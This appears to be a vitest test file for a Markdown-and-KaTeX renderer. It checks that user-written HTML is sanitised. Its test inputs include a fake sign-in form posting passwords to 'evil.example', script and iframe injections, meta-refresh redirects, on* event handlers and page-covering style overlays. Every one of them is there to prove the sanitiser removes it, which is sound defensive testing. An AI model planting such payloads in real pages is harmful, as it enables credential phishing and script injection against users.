import { containsMath } from "@app/domain/math-tokens";
import { beforeAll, describe, expect, it } from "vitest";
import { applyFormulaStyles } from "./formula-styles";
import { katex } from "./katex-module";
import { FORBIDDEN_TAGS, provideKatex, renderMathMarkdown } from "./render-math-markdown";

beforeAll(() => provideKatex(katex));

describe("text without formulas needs no KaTeX (issue 21)", () => {
  it("tells Markdown with a formula from Markdown without one", () => {
    expect(containsMath("When you count, every number is **one more**.")).toBe(false);
    expect(containsMath("It costs 5 dollars.")).toBe(false);
    expect(containsMath("Solve $x + 1 = 2$.")).toBe(true);
    expect(containsMath("$$\\frac{1}{2}$$")).toBe(true);
    expect(containsMath("\\(a^2\\)")).toBe(true);
  });
});

/** Renders Markdown and parses the result, as the page would show it (formula styles applied). */
function renderToDom(source: string, inline = false): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = renderMathMarkdown(source, { inline });
  applyFormulaStyles(root);
  return root;
}

describe("user-written Markdown is sanitised (decisions.md 8, issue 7.18)", () => {
  it("drops a fake sign-in form: form, inputs and button, and keeps the text", () => {
    const root = renderToDom(
      'Log in again:\n\n<form action="https://evil.example/steal" method="post">' +
        '<input name="password" type="password" placeholder="Password">' +
        '<button formaction="https://evil.example">Sign in</button></form>',
    );
    expect(root.querySelector("form")).toBeNull();
    expect(root.querySelector("input")).toBeNull();
    expect(root.querySelector("button")).toBeNull();
    expect(root.innerHTML).not.toContain("evil.example");
    expect(root.textContent).toContain("Sign in");
  });

  it("drops inline style, on an element and in a <style> block", () => {
    const root = renderToDom(
      '<div style="position:fixed;inset:0;opacity:0;z-index:9999">cover</div>\n\n' +
        '<style>body { display: none }</style>\n\n<span style="color:red">red</span> text',
    );
    expect(root.querySelector("[style]")).toBeNull();
    expect(root.querySelector("style")).toBeNull();
    expect(root.textContent).toContain("cover");
    expect(root.textContent).not.toContain("display: none");
  });

  it.each([
    ["textarea", "<textarea>hi</textarea>"],
    ["select", "<select><option>a</option></select>"],
    ["iframe", '<iframe src="https://evil.example"></iframe>'],
    ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ["object", '<object data="evil.swf"></object>'],
    ["embed", '<embed src="evil.swf">'],
    ["script", "<script>window.hacked = 1</script>"],
    ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["link", '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ["base", '<base href="https://evil.example/">'],
  ])("drops %s", (_, html) => {
    const root = renderToDom(`Before\n\n${html}\n\nafter`);
    for (const tag of FORBIDDEN_TAGS) expect(root.querySelector(tag), tag).toBeNull();
    expect(root.innerHTML).not.toContain("evil.example");
    expect(root.innerHTML).not.toMatch(/srcdoc|http-equiv/i);
  });

  it("drops every on* handler attribute", () => {
    const root = renderToDom(
      '<img src="x.png" onerror="alert(1)" onload="alert(2)"> <a href="/x" onclick="alert(3)" onmouseover="alert(4)">x</a>' +
        ' <details ontoggle="alert(5)" open>d</details> <svg onload="alert(6)"></svg>',
    );
    const withHandler = [...root.querySelectorAll("*")].filter((el) =>
      [...el.attributes].some((attribute) => attribute.name.toLowerCase().startsWith("on")),
    );
    expect(withHandler).toEqual([]);
    expect(root.querySelector("img")).not.toBeNull();
  });

  // DOMPurify's own guard (SANITIZE_DOM); kept here so a configuration change cannot drop it.
  it("does not let an author's id or name clobber the page's globals", () => {
    const root = renderToDom('<img name="getElementById" src="x.png"> <a id="location" href="/x">x</a>');
    expect(root.querySelector("img")?.getAttribute("name")).not.toBe("getElementById");
    expect(root.querySelector("a")?.id).not.toBe("location");
  });

  it("still renders formulas with KaTeX's own inline styles, in block and inline Markdown", () => {
    const root = renderToDom("A fraction $\\frac{1}{2}$ here.\n\n$$x^2 + \\sqrt{y}$$");
    expect(root.querySelectorAll(".katex")).toHaveLength(2);
    expect(root.querySelector(".katex-display")).not.toBeNull();
    // KaTeX's layout needs its style attributes (struts and vertical alignment).
    expect(root.querySelector(".katex [style]")).not.toBeNull();
    expect(root.querySelector("[data-math-slot]")).toBeNull();
    const inline = renderToDom("Inline $a^2$ label", true);
    expect(inline.querySelectorAll(".katex")).toHaveLength(1);
    expect(inline.querySelector("p")).toBeNull();
  });

  it("keeps an author's style out even when it sits next to a formula or fakes KaTeX's markup", () => {
    const root = renderToDom(
      '<span class="katex"><span style="position:fixed;inset:0">overlay</span></span> and $x$ ' +
        '<span data-math-style="position:fixed;inset:0">carrier</span> ' +
        '<span data-math-slot="guess-0"></span>',
    );
    const styled = [...root.querySelectorAll("[style]")];
    expect(root.querySelector("[data-math-style]")).toBeNull();
    expect(styled.length).toBeGreaterThan(0);
    // Every styled element is inside the one real formula KaTeX rendered.
    const formulas = [...root.querySelectorAll(".katex")].filter((el) => el.querySelector(".katex-html"));
    expect(formulas).toHaveLength(1);
    for (const el of styled) expect(formulas[0]!.contains(el)).toBe(true);
    expect(root.innerHTML).not.toContain("position:fixed");
  });

  it("writes no style attribute into the HTML, which the page's CSP would refuse (decision 037)", () => {
    const html = renderMathMarkdown("A fraction $\\frac{1}{2}$ here.\n\n$$\\sqrt{x^2+1}$$");
    expect(html).not.toMatch(/\sstyle=/);
    expect(html).toContain("data-math-style=");
  });
});
